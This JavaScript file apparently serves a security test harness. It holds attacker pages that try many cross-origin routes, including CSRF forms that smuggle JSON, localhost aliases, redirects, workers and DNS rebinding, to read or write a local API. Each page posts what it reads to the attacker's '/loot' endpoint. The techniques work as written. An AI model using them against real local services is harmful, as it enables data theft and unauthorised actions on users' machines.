// The pages that attack. Each function is one page: it wants what `victim` names, in the way that its name says, and
// returns all that it could read. `victim` has `reads` (addresses), `writes` (addresses and bodies), `port` (of the API),
// and `home`, where the attacker listens.

const PATIENCE = 5000;

const late = () => new Promise((resolve) => setTimeout(resolve, PATIENCE));

/** What an answer says to a script: nothing, if it is opaque. */
async function said(asked) {
  try {
    const answer = await asked;
    return answer.type === "opaque" ? [] : [`${answer.status} ${await answer.text()}`];
  } catch {
    return [];
  }
}

const every = async (asked) => (await Promise.all(asked.map(said))).flat();

/** Reads and writes with `fetch`, the writes as a form could send them. */
function fetched({ reads, writes }, options) {
  const text = { "content-type": "text/plain" };
  return every([
    ...reads.map((url) => fetch(url, options)),
    ...writes.map(({ url, body }) => fetch(url, { method: "POST", body, headers: text, ...options })),
  ]);
}

/** Puts an element into the page and waits until it has loaded, or has failed to. */
function shown(name, attributes) {
  const element = Object.assign(document.createElement(name), attributes);
  const settled = new Promise((resolve) => {
    for (const end of ["load", "error", "loadeddata"]) element.addEventListener(end, () => resolve(element));
  });
  document.body.append(element);
  return Promise.race([settled, late().then(() => element)]);
}

const each = (urls, name, attributes) => Promise.all(urls.map((url) => shown(name, attributes(url))));

/** What a page sees of another window, which has gone elsewhere. */
async function seen(other) {
  const begun = Date.now();
  while (Date.now() - begun < PATIENCE) {
    try {
      const text = other.document.body?.innerText;
      if (other.location.href !== "about:blank" && text) return [text];
    } catch {
      return [];
    }
    await new Promise((resolve) => setTimeout(resolve, 5));
  }
  return [];
}

/** Sends a form into a frame, or into a window. */
async function form(url, enctype, fields, method = "POST") {
  const frame = document.createElement("iframe");
  frame.name = `frame-${Math.random()}`;
  document.body.append(frame);
  const form = Object.assign(document.createElement("form"), { action: url, method, enctype, target: frame.name });
  for (const [name, value] of Object.entries(fields)) {
    form.append(Object.assign(document.createElement("input"), { name, value }));
  }
  document.body.append(form);
  const loaded = new Promise((resolve) => frame.addEventListener("load", () => resolve()));
  form.submit();
  await Promise.race([loaded, late()]);
  return seen(frame.contentWindow);
}

/** JSON in the name of a field, so that `name=value` is JSON too. */
const smuggled = (body) => ({ [`${body.slice(0, -1)}${body === "{}" ? "" : ","}"x":"`]: '"}' });

const forms = async ({ writes }, enctype, fields) =>
  (await Promise.all(writes.map(({ url, body }) => form(url, enctype, fields(body))))).flat();

/** Opens a window, or nothing where windows may not be opened. */
async function opened(url, go = () => {}) {
  const other = open(url);
  if (!other) return [];
  go(other);
  return seen(other);
}

const pages = {
  fetch: (victim) => fetched(victim),

  fetch_with_credentials: (victim) => fetched(victim, { credentials: "include" }),

  fetch_without_cors: (victim) => fetched(victim, { mode: "no-cors" }),

  /** The browser asks first whether it may. */
  fetch_of_json: ({ writes }) =>
    every(writes.flatMap(({ url, body }) => ["POST", "PATCH"].map((method) =>
      fetch(url, { method, body, headers: { "content-type": "application/json", "idempotency-key": `json-${method}` } })))),

  /** Nothing says where it comes from but the browser itself. */
  fetch_without_referrer: (victim) => fetched(victim, { mode: "no-cors", referrerPolicy: "no-referrer" }),

  xhr: async ({ reads, writes }) => {
    const ask = (method, url, body) => new Promise((resolve) => {
      const xhr = new XMLHttpRequest();
      xhr.open(method, url);
      xhr.setRequestHeader("x-request-id", "from-a-page");
      xhr.onloadend = () => resolve(xhr.status ? [`${xhr.status} ${xhr.responseText}`] : []);
      xhr.send(body);
    });
    const asked = [...reads.map((url) => ask("GET", url)), ...writes.map(({ url, body }) => ask("POST", url, body))];
    return (await Promise.all(asked)).flat();
  },

  form_urlencoded: (victim) => forms(victim, "application/x-www-form-urlencoded", (body) => JSON.parse(body)),

  form_multipart: (victim) => forms(victim, "multipart/form-data", (body) => JSON.parse(body)),

  form_of_text: (victim) => forms(victim, "text/plain", smuggled),

  form_that_gets: async ({ reads }) =>
    (await Promise.all(reads.map((url) => form(url, "text/plain", {}, "GET")))).flat(),

  form_in_a_window: async ({ writes }) => {
    const all = await Promise.all(writes.map(({ url, body }) => opened("about:blank", (other) => {
      const form = other.document.createElement("form");
      Object.assign(form, { action: url, method: "POST", enctype: "text/plain" });
      const [[name, value]] = Object.entries(smuggled(body));
      form.append(Object.assign(other.document.createElement("input"), { name, value }));
      other.document.body.append(form);
      form.submit();
    })));
    return all.flat();
  },

  beacon: async ({ writes }) => {
    for (const { url, body } of writes) {
      navigator.sendBeacon(url, body);
      navigator.sendBeacon(url, new Blob([body], { type: "application/json" }));
    }
    return [];
  },

  ping: async ({ writes }) => {
    for (const { url } of writes) {
      const link = Object.assign(document.createElement("a"), { href: "#pinged", ping: url });
      document.body.append(link);
      link.click();
    }
    return [];
  },

  /** A page may say where the violations of its policy are posted. */
  policy_report: async ({ home, writes }) => {
    await each(writes.map(({ url }) => `${home}/policy?${encodeURIComponent(url)}`), "iframe", (src) => ({ src }));
    return [];
  },

  image: async ({ reads }) => {
    const images = await each(reads, "img", (src) => ({ src, referrerPolicy: "no-referrer" }));
    return images.filter((image) => image.naturalWidth).map((image) => `${image.naturalWidth}`);
  },

  script: async ({ reads }) => {
    const told = [];
    onerror = (text, source) => source.startsWith(origin) || text === "Script error." || told.push(text);
    await each(reads, "script", (src) => ({ src }));
    return told;
  },

  stylesheet: async ({ reads }) => {
    const sheets = await each(reads, "link", (href) => ({ href, rel: "stylesheet" }));
    return sheets.flatMap(({ sheet }) => {
      try {
        return Array.from(sheet?.cssRules ?? [], (rule) => rule.cssText);
      } catch {
        return [];
      }
    });
  },

  embedded: async ({ reads }) => {
    await each(reads, "object", (data) => ({ data }));
    await each(reads, "video", (src) => ({ src }));
    await each(reads, "embed", (src) => ({ src }));
    return [];
  },

  fetched_ahead: async ({ reads }) => {
    await each(reads, "link", (href) => ({ href, rel: "prefetch" }));
    await each(reads, "link", (href) => ({ href, rel: "preload", as: "fetch", crossOrigin: "anonymous" }));
    return [];
  },

  frame: async ({ reads }) => {
    const frames = await each(reads, "iframe", (src) => ({ src }));
    return (await Promise.all(frames.map((frame) => seen(frame.contentWindow)))).flat();
  },

  /** A page without an origin. */
  frame_without_origin: async (victim) => {
    const told = new Promise((resolve) => { onmessage = (message) => resolve(message.data); });
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts allow-forms";
    frame.srcdoc = `<body><script src="${victim.home}/attacks.js"></script><script>
      const victim = ${JSON.stringify(victim)};
      const all = [pages.fetch(victim), pages.fetch_without_cors(victim), pages.form_of_text(victim)];
      Promise.all(all).then((told) => parent.postMessage(told.flat(), "*"));</script>`;
    document.body.append(frame);
    return told;
  },

  window: async ({ reads }) => (await Promise.all(reads.map((url) => opened(url)))).flat(),

  navigation: async ({ reads }) =>
    (await Promise.all(reads.map((url) => opened("about:blank", (other) => { other.location = url; })))).flat(),

  websocket: async ({ reads }) => {
    const told = await Promise.all(reads.map((url) => new Promise((resolve) => {
      const socket = new WebSocket(url.replace("http", "ws"));
      socket.onmessage = ({ data }) => { resolve([data]); socket.close(); };
      socket.onclose = () => resolve([]);
    })));
    return told.flat();
  },

  event_source: async ({ reads }) => {
    const told = await Promise.all(reads.map((url) => new Promise((resolve) => {
      const source = new EventSource(url, { withCredentials: true });
      const end = (told) => { source.close(); resolve(told); };
      source.onmessage = ({ data }) => end([data]);
      source.onerror = () => end([]);
    })));
    return told.flat();
  },

  worker: (victim) => {
    const source = `importScripts("${victim.home}/attacks.js"); attackFromWorker(${JSON.stringify(victim)}, postMessage);`;
    const worker = new Worker(URL.createObjectURL(new Blob([source])));
    return new Promise((resolve) => { worker.onmessage = ({ data }) => resolve(data); });
  },

  service_worker: async (victim) => {
    const registration = await navigator.serviceWorker.register("/worker.js");
    await navigator.serviceWorker.ready;
    const { port1, port2 } = new MessageChannel();
    const told = new Promise((resolve) => { port1.onmessage = ({ data }) => resolve(data); });
    registration.active.postMessage(victim, [port2]);
    return told.finally(() => registration.unregister());
  },

  /** The attacker's own address, which sends the browser on with all that it carries. */
  redirect: async ({ home, reads, writes }) => {
    const through = (url) => `${home}/on?${encodeURIComponent(url)}`;
    const victim = { reads: reads.map(through), writes: writes.map(({ url, body }) => ({ url: through(url), body })) };
    const told = [await fetched(victim), await fetched(victim, { mode: "no-cors" }), await pages.form_of_text(victim)];
    return told.flat();
  },

  /** A call over gRPC-Web, declared as it is, and as what needs no asking. */
  grpc_web: ({ calls }) =>
    every(calls.flatMap(({ url, message }) => ["application/grpc-web+proto", "text/plain"].map((kind) => {
      const body = new Uint8Array([0, 0, 0, 0, message.length, ...message]);
      return fetch(url, { method: "POST", body, headers: { "content-type": kind } });
    }))),

  /** This machine, by names that mean it too. */
  other_names: async (victim) => {
    const names = ["0.0.0.0", "[::1]", "localhost", "localhost.", "any.localhost", "127.0.0.2", "[::ffff:127.0.0.1]", "[::]"];
    const named = (url, name) => Object.assign(new URL(url), { hostname: name }).href;
    const told = await Promise.all(names.flatMap((name) => {
      const other = {
        reads: victim.reads.map((url) => named(url, name)),
        writes: victim.writes.map(({ url, body }) => ({ url: named(url, name), body })),
      };
      return [fetched(other), fetched(other, { mode: "no-cors" }), pages.form_of_text(other)];
    }));
    return told.flat();
  },

  /** A name of the attacker's, which has become the victim's address meanwhile: now all is of one origin. */
  rebinding: async ({ home, reads, writes }) => {
    const own = (url) => new URL(new URL(url).pathname + new URL(url).search, origin).href;
    await fetch(`${home}/rebind`, { method: "POST", mode: "no-cors" });
    const json = { "content-type": "application/json", "idempotency-key": "rebound" };
    const victim = {
      reads: [...reads.map(own), own("http://any/nothing-is-here"), own("http://any/")],
      writes: writes.map(({ url, body }) => ({ url: own(url), body })),
    };
    const told = [
      await fetched(victim, { referrerPolicy: "no-referrer" }),
      await fetched(victim, { credentials: "include", headers: json }),
      await every(victim.reads.map((url) => fetch(url, { method: "PUT" }))),
      await pages.form_of_text(victim),
      await pages.frame(victim),
      await pages.websocket(victim),
    ];
    return told.flat();
  },
};

/** What a worker can do. */
async function attackFromWorker(victim, tell) {
  for (const url of victim.reads) {
    try {
      importScripts(url);
    } catch { /* It cannot say what was in it. */ }
  }
  const told = [await fetched(victim), await fetched(victim, { mode: "no-cors" })];
  tell(told.flat());
}

/** Carries out the attack of this page, and brings home what it read. */
async function attack(name, victim) {
  let told;
  try {
    told = { read: await pages[name](victim) };
  } catch (error) {
    told = { broken: `${error.stack}` };
  }
  await fetch(`${victim.home}/loot`, { method: "POST", mode: "no-cors", body: JSON.stringify(told) });
}
